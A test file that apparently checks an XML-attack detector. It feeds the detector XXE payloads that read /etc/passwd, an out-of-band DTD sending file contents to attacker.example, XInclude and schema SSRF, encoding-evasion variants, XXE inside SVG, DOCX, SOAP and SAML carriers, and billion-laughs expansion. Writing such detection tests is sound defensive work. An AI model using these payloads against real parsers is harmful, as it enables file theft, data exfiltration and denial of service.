/**
 * Evasion checklist F (items 73-87): XXE and hostile XML, through the real
 * engine (body, fields, uploads, encodings). The tokenizer and detector tests
 * of the same techniques are in test/engine/xml/*.test.ts.
 */
import { describe, expect, it } from 'vitest';
import { buildZip } from '../containers/zipwriter.js';
import { utf16be, utf16le, utf7 } from '../carriers/encodings.js';
import { b64, enc, FORM, inspect, JSON_CT, rules } from './harness.js';

const XML = { contentType: 'application/xml' };
const SYS = '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<r>&x;</r>';

describe('F. XML / XXE', () => {
  it('E73: XXE in the XML body itself (not only in parameters)', () => {
    const v = inspect(SYS, XML);
    expect(v.findings.find((f) => f.rule === 'DW-XML-001')?.location).toBe('body');
  });

  it('E74: external DTD only, no ENTITY keyword', () => {
    expect(rules('<!DOCTYPE x SYSTEM "//attacker.example/x"><x>a</x>', XML)).toContain('DW-XML-002');
    expect(rules('<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>', { contentType: 'text/plain' })).toContain('DW-XML-002');
  });

  it('E75: PUBLIC instead of SYSTEM, single or double quotes', () => {
    expect(rules(`<!DOCTYPE r [<!ENTITY x PUBLIC "-//A//B" 'http://attacker.example/x'>]><r>&x;</r>`, XML)).toContain('DW-XML-001');
    expect(rules(`<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>`, XML)).toContain('DW-XML-001');
    expect(rules(`<!DOCTYPE r PUBLIC "-//Evil//DTD X//EN" "http://attacker.example/x.dtd"><r/>`, XML)).toContain('DW-XML-002');
  });

  it('E76: parameter entities and remote DTDs defining the real entities (out of band)', () => {
    expect(rules('<!DOCTYPE d [<!ENTITY % dtd SYSTEM "http://attacker.example/p.dtd"> %dtd; %send;]><d/>', XML)).toEqual(expect.arrayContaining(['DW-XML-001', 'DW-XML-003']));
    // The remote DTD itself, uploaded (no DOCTYPE around it).
    expect(rules('<!ENTITY % file SYSTEM "file:///etc/hostname">\n<!ENTITY % all "<!ENTITY send SYSTEM \'http://attacker.example/?%file;\'>">\n%all;', { contentType: 'application/xml-dtd' })).toEqual(expect.arrayContaining(['DW-XML-001', 'DW-XML-003']));
  });

  it('E77: UTF-16LE and UTF-16BE with a byte order mark', () => {
    expect(rules(Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le(SYS)]), XML)).toContain('DW-XML-001');
    expect(rules(Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(SYS)]), XML)).toContain('DW-XML-001');
  });

  it('E78: UTF-16 without BOM, UCS-4 byte orders, EBCDIC', () => {
    const noDecl = SYS.replace(/^<\?xml[^>]*>\n/, '');
    expect(rules(utf16le(noDecl), XML)).toContain('DW-XML-001');
    expect(rules(utf16be(noDecl), XML)).toContain('DW-XML-001');
    const ucs4be = Buffer.alloc(noDecl.length * 4);
    for (let i = 0; i < noDecl.length; i++) ucs4be.writeUInt32BE(noDecl.charCodeAt(i), i * 4);
    expect(rules(ucs4be, XML)).toContain('DW-XML-001');
    const ucs4le = Buffer.alloc(noDecl.length * 4);
    for (let i = 0; i < noDecl.length; i++) ucs4le.writeUInt32LE(noDecl.charCodeAt(i), i * 4);
    expect(rules(ucs4le, XML)).toContain('DW-XML-001');
  });

  it('E79: UTF-7 (+ADwAIQ-DOCTYPE), declared and undeclared', () => {
    const decl = Buffer.concat([enc('<?xml version="1.0" encoding="UTF-7"?>\n'), utf7(SYS.replace(/^<\?xml[^>]*>\n/, ''))]);
    expect(rules(decl, XML)).toContain('DW-XML-001');
    expect(rules('+ADwAIQ-DOCTYPE r +AFsAPAAh-ENTITY x SYSTEM +ACI-file:///etc/passwd+ACIAPgBd-+AD4-', { contentType: 'text/plain' })).toContain('DW-XML-001');
  });

  it('E80: declared encoding contradicting the BOM or the HTTP charset', () => {
    const lying = Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le(SYS.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>'))]);
    expect(rules(lying, XML)).toEqual(expect.arrayContaining(['DW-XML-007', 'DW-XML-001']));
    expect(rules('<?xml version="1.0" encoding="UTF-16"?><r/>', XML)).toContain('DW-XML-007');
  });

  it('E81: tabs, CR, LF and repeated spaces inside <!DOCTYPE and <!ENTITY', () => {
    expect(rules('<!DOCTYPE\t\tr\r\n[\n\t<!ENTITY\r\n  x \t SYSTEM\n"file:///etc/passwd"\t>\n]><r>&x;</r>', XML)).toContain('DW-XML-001');
  });

  it('E82: comments and processing instructions interleaved in the internal subset', () => {
    // A comment inside a declaration is not XML: the DOCTYPE is refused as malformed.
    expect(rules('<!DOCTYPE r [<!-- a --><?pi x?><!ENTITY <!-- no --> x SYSTEM "file:///etc/passwd"><!-- b -->]><r/>', XML)).toContain('DW-XML-006');
    expect(rules('<!DOCTYPE r [<!-- <!ENTITY y "z"> --><?pi ?><!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', XML)).toContain('DW-XML-001');
  });

  it('E83: character references building a declaration inside a parameter entity value', () => {
    const doc = '<!DOCTYPE r [<!ENTITY % a "&#x3C;!ENTITY x &#x53;YSTEM \'file:///etc/passwd\'>"> %a;]><r>&x;</r>';
    expect(rules(doc, XML)).toEqual(expect.arrayContaining(['DW-XML-001', 'DW-XML-003']));
  });

  it('E84: XInclude without a DOCTYPE; xsi:schemaLocation / xs:include SSRF', () => {
    expect(rules('<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>', XML)).toContain('DW-XML-005');
    expect(rules('<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="http://attacker.example/x.xsd"/></xs:schema>', XML)).toContain('DW-XML-005');
  });

  it('E85: carriers: SVG upload, DOCX (XML in a zip), SOAP envelope, SAML, RSS, a JSON endpoint switched to XML', () => {
    const svg = '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>';
    const mp = Buffer.concat([enc('--b\r\nContent-Disposition: form-data; name="avatar"; filename="a.svg"\r\nContent-Type: image/svg+xml\r\n\r\n'), enc(svg), enc('\r\n--b--\r\n')]);
    expect(rules(mp, { contentType: 'multipart/form-data; boundary=b' })).toContain('DW-XML-001');
    const docx = buildZip([{ name: '[Content_Types].xml', data: '<?xml version="1.0"?><Types/>' }, { name: 'word/document.xml', data: SYS, method: 8 }]);
    expect(rules(docx, { contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' })).toContain('DW-XML-001');
    const soap = `<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><a>&x;</a></soap:Body></soap:Envelope>`;
    expect(rules(soap, { contentType: 'text/xml' })).toContain('DW-XML-001');
    expect(rules(`SAMLResponse=${encodeURIComponent(b64(enc(soap)))}`, { contentType: FORM })).toContain('DW-XML-001');
    expect(rules(`<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "http://attacker.example/">]><rss version="2.0"><channel><title>&x;</title></channel></rss>`, { contentType: 'application/rss+xml' })).toContain('DW-XML-001');
    expect(rules(SYS, { contentType: 'application/xml', path: '/api/v1/orders.json' })).toContain('DW-XML-001');
    expect(rules(JSON.stringify({ doc: SYS }), { contentType: JSON_CT })).toContain('DW-XML-001');
  });

  it('E86: billion laughs and quadratic blow-up', () => {
    let laughs = '<!DOCTYPE l [<!ENTITY l0 "ha">';
    for (let i = 1; i < 10; i++) laughs += `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`;
    laughs += ']><l>&l9;</l>';
    expect(rules(laughs, XML)).toContain('DW-XML-004');
    const quad = `<!DOCTYPE q [<!ENTITY a "${'x'.repeat(50000)}">]><q>${'&a;'.repeat(10000)}</q>`;
    expect(rules(quad, XML)).toContain('DW-XML-004');
  });

  it('E87: scheme variety (file, http, ftp, php://filter, expect, netdoc, jar, gopher, data)', () => {
    for (const url of ['file:///etc/passwd', 'http://a.example/x', 'ftp://a.example/x', 'php://filter/convert.base64-encode/resource=index.php', 'expect://id', 'netdoc:/etc/passwd', 'jar:http://a.example/x.zip!/y', 'gopher://a.example:25/_x', 'data://text/plain;base64,SGVsbG8=']) {
      expect(rules(`<!DOCTYPE r [<!ENTITY x SYSTEM "${url}">]><r>&x;</r>`, XML), url).toContain('DW-XML-001');
    }
  });
});
